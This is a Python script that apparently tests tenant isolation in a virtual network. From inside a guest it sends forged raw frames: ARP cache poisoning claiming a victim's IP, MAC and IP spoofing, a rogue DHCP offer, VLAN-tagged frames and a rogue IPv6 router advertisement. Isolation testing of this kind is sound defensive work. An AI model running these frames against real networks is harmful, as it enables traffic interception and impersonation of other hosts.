#!/usr/bin/env python3
"""A tenant who is root in its VM, trying to be another tenant.

Run as root inside a guest (or a test guest namespace); stdlib only, so the
guest image's own python3 runs it. Every round, from interface IFACE, it
sends raw frames:

  garp-request   gratuitous ARP request: VICTIM_IP is at my MAC
  garp-reply     gratuitous ARP reply (broadcast): VICTIM_IP is at my MAC
  arp-to-gw      unicast ARP reply to the gateway: VICTIM_IP is at my MAC
  arp-fake-mac   ARP reply for my own IP, but naming another MAC
  mac-spoof      IPv4/UDP from the victim's MAC and IP (teaches the bridge
                 the victim's MAC on my port, if it learns from me)
  ip-spoof       IPv4/UDP from VICTIM_IP (my MAC) to GW_IP:PORT, "spoofed"
  legit          IPv4/UDP from MY_IP (my MAC) to GW_IP:PORT, "legit"
  dhcp-offer     IPv4/UDP sport 67 -> 255.255.255.255:68, "dhcp-offer"
  vlan           802.1Q-tagged IPv4/UDP from MY_IP to GW_IP:PORT, "vlan"
  ra             IPv6 router advertisement to ff02::1 (default route,
                 prefix 2001:db8:bad::/64)

Usage: forge.py IFACE MY_IP GW_IP GW_MAC VICTIM_IP VICTIM_MAC PORT ROUNDS
Prints "sent <kind> <n>" per kind at the end.
"""

import socket
import struct
import sys
import time


def mac(s):
    return bytes(int(b, 16) for b in s.split(":"))


def ip4(s):
    return socket.inet_aton(s)


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def eth(dst, src, ethertype, payload):
    return dst + src + struct.pack("!H", ethertype) + payload


def arp(op, sha, spa, tha, tpa):
    return struct.pack("!HHBBH", 1, 0x0800, 6, 4, op) + sha + spa + tha + tpa


def udp4(src, dst, sport, dport, payload):
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0x4000, 64, 17, 0, src, dst)
    hdr = hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:]
    return hdr + udp


def router_advertisement(src_mac):
    # fe80:: + modified EUI-64 of the MAC
    eui = bytes([src_mac[0] ^ 2]) + src_mac[1:3] + b"\xff\xfe" + src_mac[3:]
    src = b"\xfe\x80" + b"\0" * 6 + eui
    dst = socket.inet_pton(socket.AF_INET6, "ff02::1")
    prefix = socket.inet_pton(socket.AF_INET6, "2001:db8:bad::")
    # cur hop limit 64, no flags, router lifetime 1800 s, reachable, retrans
    ra = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
    ra += struct.pack("!BB", 1, 1) + src_mac  # source link-layer address
    # prefix information: /64, on-link + autonomous, valid 1 d, preferred 4 h
    ra += struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 86400, 14400, 0) + prefix
    pseudo = src + dst + struct.pack("!I3xB", len(ra), 58)
    ra = ra[:2] + struct.pack("!H", csum(pseudo + ra)) + ra[4:]
    ip6 = struct.pack("!IHBB", 6 << 28, len(ra), 58, 255) + src + dst
    return eth(mac("33:33:00:00:00:01"), src_mac, 0x86DD, ip6 + ra)


def main():
    iface, my_ip, gw_ip, gw_mac, victim_ip, victim_mac, port, rounds = sys.argv[1:9]
    port, rounds = int(port), int(rounds)
    me = mac(open("/sys/class/net/%s/address" % iface).read().strip())
    gw, victim = mac(gw_mac), mac(victim_mac)
    bcast, zero = b"\xff" * 6, b"\0" * 6
    vip, gip, mip = ip4(victim_ip), ip4(gw_ip), ip4(my_ip)
    frames = {
        "garp-request": eth(bcast, me, 0x0806, arp(1, me, vip, zero, vip)),
        "garp-reply": eth(bcast, me, 0x0806, arp(2, me, vip, bcast, vip)),
        "arp-to-gw": eth(gw, me, 0x0806, arp(2, me, vip, gw, gip)),
        "arp-fake-mac": eth(gw, me, 0x0806, arp(2, mac("02:de:ad:be:ef:01"), mip, gw, gip)),
        "mac-spoof": eth(gw, victim, 0x0800, udp4(vip, gip, 40000, port, b"mac-spoof")),
        "ip-spoof": eth(gw, me, 0x0800, udp4(vip, gip, 40001, port, b"spoofed")),
        "legit": eth(gw, me, 0x0800, udp4(mip, gip, 40002, port, b"legit")),
        "dhcp-offer": eth(bcast, me, 0x0800, udp4(mip, b"\xff" * 4, 67, 68, b"dhcp-offer")),
        "vlan": gw + me + struct.pack("!HH", 0x8100, 5) + struct.pack("!H", 0x0800)
        + udp4(mip, gip, 40003, port, b"vlan"),
        "ra": router_advertisement(me),
    }
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    sent = dict.fromkeys(frames, 0)
    for _ in range(rounds):
        for kind, frame in frames.items():
            s.send(frame)
            sent[kind] += 1
        time.sleep(0.5)
    for kind, n in sent.items():
        print("sent", kind, n)


if __name__ == "__main__":
    main()
